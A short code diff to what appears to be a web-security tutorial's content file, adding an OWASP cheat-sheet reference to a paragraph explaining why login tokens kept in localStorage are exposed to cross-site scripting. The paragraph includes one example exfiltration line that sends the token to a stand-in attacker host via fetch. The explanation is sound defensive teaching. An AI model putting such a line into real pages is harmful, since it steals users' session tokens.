@@ -47,6 +47,7 @@ export const whichToUse = {
       blocks: [
         {
           kind: 'p',
+          // https://cheatsheetseries.owasp.org/cheatsheets/HTML5_Security_Cheat_Sheet.html#local-storage (do not store session identifiers in local storage)
           text: 'It is tempting to keep a login token in localStorage and add it to each request yourself. Don\'t: **every script on the page can read localStorage** — your code, every library and analytics snippet you load, and any script an attacker manages to inject (cross-site scripting). One `fetch(\'https://evil.example/?t=\' + localStorage.token)` and the token is gone, valid until it expires.',
         },
         {
